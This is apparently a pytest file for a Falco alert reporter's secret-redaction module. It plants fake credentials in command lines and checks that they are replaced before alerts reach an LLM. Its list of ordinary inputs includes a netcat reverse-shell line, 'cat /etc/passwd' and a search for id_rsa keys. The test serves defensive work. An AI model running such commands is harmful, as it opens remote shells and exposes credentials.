"""Secrets are removed from alert text before it can reach an LLM provider; ordinary text is not."""

from __future__ import annotations

import pytest

from falco_reporter.models.falco import normalise, parse_alert_body
from falco_reporter.reporting.redaction import PLACEHOLDER_RE, Redactor, redact, redact_alert
from tests.samples import REAL_SAMPLES

AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq9x2Zk3mPqWnRtYvUe\nQk9sLmNoPqRsTuVwXyZa0123456789+/==\n"
    "-----END RSA PRIVATE KEY-----"
)
GCP_JSON = (
    '{"type": "service_account", "project_id": "demo", '
    '"private_key_id": "8c3f0b6d2e1a4f5b9c7d8e0f1a2b3c4d5e6f7a8b", '
    '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\\n'
    '-----END PRIVATE KEY-----\\n", "client_email": "ci@demo.iam.gserviceaccount.com"}'
)

# (command line, the secret planted in it, the kind reported)
PLANTED = [
    ("mysql --password S3cr3tPw -h db app", "S3cr3tPw", "secret-flag"),
    ("mysql --password=S3cr3tPw -h db app", "S3cr3tPw", "secret-flag"),
    ("mysql -u root -pS3cr3tPw app", "S3cr3tPw", "password-flag"),
    ("mysqldump -u root -p S3cr3tPw app", "S3cr3tPw", "password-flag"),
    ("/usr/bin/mariadb -uroot -pS3cr3tPw", "S3cr3tPw", "password-flag"),
    ("sshpass -p 'S3cr3tPw' ssh -p 2222 admin@10.0.0.5", "S3cr3tPw", "password-flag"),
    ("redis-cli -h cache -a S3cr3tPw ping", "S3cr3tPw", "password-flag"),
    ("curl -u admin:S3cr3tPw https://api.internal/v1", "S3cr3tPw", "password-flag"),
    ("vault login --token=hvs.CAESIJlUd3kQx", "hvs.CAESIJlUd3kQx", "secret-flag"),
    ("deploy --api-key sk-live-4f9a8b7c6d", "sk-live-4f9a8b7c6d", "secret-flag"),
    ("app --client-secret 'a b c d'", "a b c d", "secret-flag"),
    ("app -secret hunter2hunter2", "hunter2hunter2", "secret-flag"),
    ("git clone https://deploy:Tok3nValue99@git.example.com/app.git", "Tok3nValue99", "url-credentials"),
    ("psql postgres://app:Sup3rS3cret@db:5432/app", "Sup3rS3cret", "url-credentials"),
    (
        "curl -H 'Authorization: Bearer 9f8e7d6c5b4a39281706' https://api",
        "9f8e7d6c5b4a39281706",
        "authorization-header",
    ),
    (
        "wget --header='Authorization: Basic dXNlcjpwYXNzd29yZA==' http://h/",
        "dXNlcjpwYXNzd29yZA==",
        "authorization-header",
    ),
    ("aws s3 ls --profile x AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", "aws-access-key-id"),
    (
        "env AWS_ACCESS_KEY_ID=ASIAY34FZKBOKMUTVV7A aws sts get-caller-identity",
        "ASIAY34FZKBOKMUTVV7A",
        "aws-access-key-id",
    ),
    (f"AWS_SECRET_ACCESS_KEY={AWS_SECRET} aws s3 ls", AWS_SECRET, "aws-secret-access-key"),
    (f"aws configure set aws_secret_access_key {AWS_SECRET}", AWS_SECRET, "aws-secret-access-key"),
    (
        f"echo '{GCP_JSON}' > /tmp/sa.json",
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7",
        "gcp-private-key",
    ),
    (f"echo '{GCP_JSON}'", "8c3f0b6d2e1a4f5b9c7d8e0f1a2b3c4d5e6f7a8b", "gcp-private-key-id"),
    (f"cat > /root/.ssh/id_rsa <<EOF\n{PEM}\nEOF", "MIIEowIBAAKCAQEA7bq9x2Zk3mPqWnRtYvUe", "pem-private-key"),
    (
        "echo -----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE",
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAE",
        "pem-private-key",
    ),
    (f"curl -s https://api/me?session={JWT}", JWT, "jwt"),
    (f"kubectl --server https://k8s --insecure-skip-tls-verify get pods --as x {JWT}", JWT, "jwt"),
    ("DB_PASSWORD=pw-1234-xyz ./migrate", "pw-1234-xyz", "secret-assignment"),
    ("MYSQL_PWD=pw-1234-xyz mysql -u root", "pw-1234-xyz", "secret-assignment"),
    ("export GITLAB_SECRET=abc123def456 && run", "abc123def456", "secret-assignment"),
    ("env API_KEY=abc123def456 PRIVATE_KEY=zzz999yyy888 ./app", "zzz999yyy888", "secret-assignment"),
    ("kubectl create secret generic db --from-literal=password=Pa55w0rd!", "Pa55w0rd!", "secret-assignment"),
    ("helm upgrade app . --set auth.password=chartPw77", "chartPw77", "secret-assignment"),
    ('echo \'{"password": "Pa55w0rd!", "user": "bob"}\'', "Pa55w0rd!", "secret-assignment"),
    (
        "export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "github-token",
    ),
    (
        "gh auth login github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuv",
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuv",
        "github-token",
    ),
    (
        "curl -H 'PRIVATE-TOKEN: glpat-abcdefghij0123456789' https://gitlab",
        "glpat-abcdefghij0123456789",
        "gitlab-token",
    ),
    (
        "post --channel ops xoxb-123456789012-1234567890123-AbCdEfGhIjKl",
        "xoxb-123456789012-1234567890123-AbCdEfGhIjKl",
        "slack-token",
    ),
]

ORDINARY = [
    "ls -la /tmp",
    "sh -lc echo hello-from-shell",
    "ssh -p 2222 user@host",
    "ps -p 1234 -o pid,cmd",
    "grep -r token src/",
    "grep -ri password /etc/ssh/sshd_config",
    "kubectl get secret my-secret -n prod -o yaml",
    "kubectl create secret generic db --from-file=./creds",
    "curl https://falco.org/docs/concepts/rules/exceptions/",
    "git log --pretty=format:%H -n 3",
    "docker login --password-stdin registry.example.com",
    "find / -name id_rsa -o -name '*.pem'",
    "find /tmp -maxdepth 1 -iname id_rsa",
    "echo $PASSWORD",
    "TOKEN=$TOKEN ./run.sh",
    "export PATH=/usr/local/bin:/usr/bin:/bin",
    "env PWD=/root HOME=/root",
    "docker run -u 1000:1000 -p 8080:80 nginx:1.27",
    "mysql -u root -P 3306 -h db.internal",
    "skopeo copy docker://alpine:3.19@sha256:abcdef0123 docker://registry/alpine",
    "createuser --no-password bob",
    "openssl rand -hex 32",
    "sh -c 'echo hello > /tmp/x && cat /etc/passwd'",
    "python3 -m http.server 8000",
    "vault read -field=value secret/data/app",
    "app --token-file /var/run/secrets/token --max_tokens=100",
    "nc -e /bin/sh 10.0.0.1 4444",
    "containerd-shim -namespace k8s.io -id 6bc1b4be90d6d3b0a2c0e2a1f7d9f51d1f0b2c3d4e5f6a7b8c9d0e1f2a3b4c5d",
]


@pytest.mark.parametrize(("text", "secret", "kind"), PLANTED)
def test_every_planted_secret_kind_is_redacted(text: str, secret: str, kind: str) -> None:
    """Each kind of planted secret disappears, a placeholder takes its place, and its kind is reported."""
    redacted, kinds = redact(text)
    assert secret not in redacted
    assert PLACEHOLDER_RE.search(redacted)
    assert kind in kinds


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_commands_are_untouched(text: str) -> None:
    """Command lines without secrets come back byte for byte, with no kinds reported."""
    assert redact(text) == (text, [])


def test_context_around_a_secret_is_kept() -> None:
    """Only the secret is replaced: the tool, flags, user and host stay readable."""
    redacted, _ = redact(
        "git clone https://deploy:Tok3nValue99@git.example.com/app.git && mysql -u root -pS3cr3t db"
    )
    assert redacted == (
        "git clone https://deploy:[REDACTED-1]@git.example.com/app.git && mysql -u root -p[REDACTED-2] db"
    )


def test_placeholders_are_stable_within_one_redactor() -> None:
    """The same secret gets the same placeholder everywhere in one report; different secrets differ."""
    redactor = Redactor()
    first = redactor.redact("mysql -u root -pAlpha123 app")
    second = redactor.redact("DB_PASSWORD=Alpha123 ./run --token Beta456")
    assert first == "mysql -u root -p[REDACTED-1] app"
    assert second == "DB_PASSWORD=[REDACTED-1] ./run --token [REDACTED-2]"
    assert redactor.count == 2
    assert redactor.kinds == ["password-flag", "secret-assignment", "secret-flag"]


def test_quoted_values_keep_their_quotes() -> None:
    """A quoted secret is replaced inside its quotes, so the command keeps its shape."""
    assert redact("app --password 'two words'")[0] == "app --password '[REDACTED-1]'"
    assert redact('app --password="two words"')[0] == 'app --password="[REDACTED-1]"'


def test_redact_alert_redacts_output_and_every_string_field() -> None:
    """The copy has the output line and every string field redacted with shared placeholders; the original is unchanged."""
    path = next(p for p in REAL_SAMPLES if p.name == "syscall_terminal_shell_in_container_0_43.json")
    alert = normalise(parse_alert_body(path.read_bytes()))
    cmd = "sh -c 'mysql -uroot -pHunter2Pw -e status'"
    planted = alert.model_copy(
        update={
            "output": alert.output.replace("command=sh -lc echo hello-from-shell", f"command={cmd}"),
            "output_fields": {**alert.output_fields, "proc.cmdline": cmd, "proc.env": "API_TOKEN=zz-top-99"},
        }
    )
    copy, kinds = redact_alert(planted)
    assert "Hunter2Pw" not in copy.output
    assert copy.output_fields["proc.cmdline"] == "sh -c 'mysql -uroot -p[REDACTED-1] -e status'"
    assert "[REDACTED-1]" in copy.output
    assert copy.output_fields["proc.env"] == "API_TOKEN=[REDACTED-2]"
    assert copy.output_fields["proc.tty"] == alert.output_fields["proc.tty"]  # non-strings untouched
    assert kinds == ["password-flag", "secret-assignment"]
    assert "Hunter2Pw" in planted.output_fields["proc.cmdline"]


@pytest.mark.parametrize("path", REAL_SAMPLES, ids=lambda p: p.name)
def test_real_alerts_have_nothing_to_redact(path: object) -> None:
    """None of the real captured alerts carries a secret, so redaction leaves each one equal to itself."""
    alert = normalise(parse_alert_body(path.read_bytes()))  # type: ignore[attr-defined]
    copy, kinds = redact_alert(alert)
    assert kinds == []
    assert copy == alert


def test_redact_data_walks_nested_structures() -> None:
    """Strings nested in dicts and lists are redacted; keys and other values stay as they were."""
    redactor = Redactor()
    data = {"labels": {"ci-token": "glpat-abcdefghij0123456789"}, "notes": ["DB_PASSWORD=x1y2z3"], "n": 3}
    out = redactor.redact_data(data)
    assert out == {"labels": {"ci-token": "[REDACTED-1]"}, "notes": ["DB_PASSWORD=[REDACTED-2]"], "n": 3}
